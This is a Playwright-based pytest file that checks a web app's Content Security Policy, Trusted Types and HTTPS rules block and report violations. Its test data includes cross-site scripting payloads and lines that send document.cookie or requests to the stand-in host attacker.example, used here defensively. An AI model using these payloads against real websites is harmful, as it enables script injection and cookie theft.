"""The security headers, as the browser enforces them, and that breaking one of the rules is seen."""

from __future__ import annotations

from contextlib import suppress

import pytest
from playwright.async_api import Browser, Error

from tests.app.fakes import OWN_ORIGIN
from tests.browser.bank import Bank
from tests.browser.names import OWN_HOST
from tests.browser.visitor import Visitor, on_either_origin
from tests.browser.watch import ACCOUNT, Watch

pytestmark = pytest.mark.anyio

BREACHES = {
    "inline script": "document.head.appendChild(document.createElement('script')).append('window.ran = 1')",
    "markup from text": "document.body.innerHTML = '<b>x</b>'",
    "script from elsewhere": (
        "document.head.append(Object.assign(document.createElement('script'), {src: 'https://attacker.example/'}))"
    ),
    "style": "document.body.setAttribute('style', 'color: red')",
    "image from elsewhere": "new Image().src = 'https://attacker.example/?' + document.cookie",
    "image in the address": "new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='",
    "talk to elsewhere": "fetch('https://attacker.example/').catch(() => 0)",
    "form to elsewhere": (
        "(() => { const form = document.createElement('form'); form.action = 'https://attacker.example/';"
        " document.body.append(form); form.submit(); })()"
    ),
    "form to here": "HTMLFormElement.prototype.submit.call(document.getElementById('form'))",
    "base": "document.head.append(Object.assign(document.createElement('base'), {href: 'https://attacker.example/'}))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: '/'}))",
    "policy for markup": "trustedTypes.createPolicy('own', {createHTML: (text) => text})",
}


@on_either_origin
async def test_every_breach_is_refused_and_reported(visitor: Visitor) -> None:
    page = await visitor.open()
    visitor.watch.expected.append("")
    for breach, script in BREACHES.items():
        before = len(visitor.watch.errors)
        with suppress(Error):  # Trusted Types throw
            await page.evaluate(script)
        try:
            await visitor.watch.until("policy: ", after=before)
        except TimeoutError:
            pytest.fail(f"nobody has refused: {breach}")
    assert await page.evaluate("window.ran") is None
    assert page.url == f"{visitor.origin}/"


INJECTED = {
    "script": "<script>window.ran = 1</script>",
    "handler": "<img src=/favicon.svg onload='window.ran = 1'>",
    "address": "<iframe src='javascript:parent.ran = 1'></iframe>",
    "markup with script": "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "script from elsewhere": "<script src=https://attacker.example/></script>",
    "module from data": "<script type=module src='data:text/javascript,window.ran = 1'></script>",
    "style": "<style>body { display: none }</style>",
    "object": "<object data=https://attacker.example/></object>",
    "base": "<base href=https://attacker.example/>",
}


@pytest.mark.parametrize("markup", INJECTED.values(), ids=INJECTED)
async def test_markup_that_got_into_the_page_does_nothing(visitor: Visitor, bank: Bank, markup: str) -> None:
    visitor.watch.expected.append("")
    bank.injected = markup.encode()
    page = await visitor.open()
    await visitor.watch.until("policy: ")
    assert await page.evaluate("[window.ran, document.baseURI]") == [None, f"{OWN_ORIGIN}/"]


@on_either_origin
async def test_without_its_script_no_account_number_leaves_the_page(visitor: Visitor, bank: Bank) -> None:
    """Until the script is there, the browser itself would put every field into an address."""
    visitor.watch.expected += ["net::ERR_FAILED", "form-action"]
    page = visitor.page
    await page.route("**/app.js", lambda route: route.abort())
    await page.goto(f"{visitor.origin}/")
    await visitor.fill()
    await page.evaluate("document.querySelector('#submit').click()")
    await visitor.watch.until("form-action")
    assert await page.evaluate("location.href") == f"{visitor.origin}/"
    assert bank.posted == 0


async def test_after_one_visit_there_is_only_https(visitor: Visitor, bank: Bank) -> None:
    # The one over plain HTTP; /favicon.ico, which a browser asks for where no page names another.
    visitor.watch.expected += ["Opener-Policy header has been ignored", "status of 404"]
    plain = f"http://{OWN_HOST}/health"
    await visitor.page.goto(plain)
    assert visitor.page.url == plain, "the first visit says nothing if it is not plain HTTP"
    await visitor.open()
    bank.seen.clear()
    await visitor.page.goto(plain)
    assert visitor.page.url == f"{OWN_ORIGIN}/health"
    assert bank.seen_as("GET", "/health") == 1


async def test_what_every_test_looks_for_is_found(chromium: Browser) -> None:
    """The watch itself: without it the other tests would pass whatever goes wrong."""
    watch = Watch()
    async with await chromium.new_context() as context:
        await watch.attach(context)
        page = await context.new_page()
        await page.goto(f"{OWN_ORIGIN}/")
        assert watch.unexpected == []
        await page.evaluate("console.error('told')")
        await page.evaluate("setTimeout(() => { throw new Error('thrown'); })")
        await page.evaluate("fetch('/nothing')")
        await page.evaluate("fetch('https://attacker.example/').catch(() => 0)")
        for sign in ("console: told", "thrown", "status of 404", "policy: connect-src"):
            await watch.until(sign)
        assert await watch.traces_of_the_account(context) == []
        await page.evaluate(f"console.log('{ACCOUNT}'); document.title = '{ACCOUNT}'")
        await page.evaluate(f"localStorage.a = sessionStorage.a = '{ACCOUNT}'")
        await page.evaluate(f"fetch('/?{ACCOUNT}')")
        traces = await watch.traces_of_the_account(context)
    assert [trace.partition(" of ")[0] for trace in traces] == [
        "console",
        "addresses",
        "cookies and local storage",
        "title",
        "session storage",
        "markup",
    ]
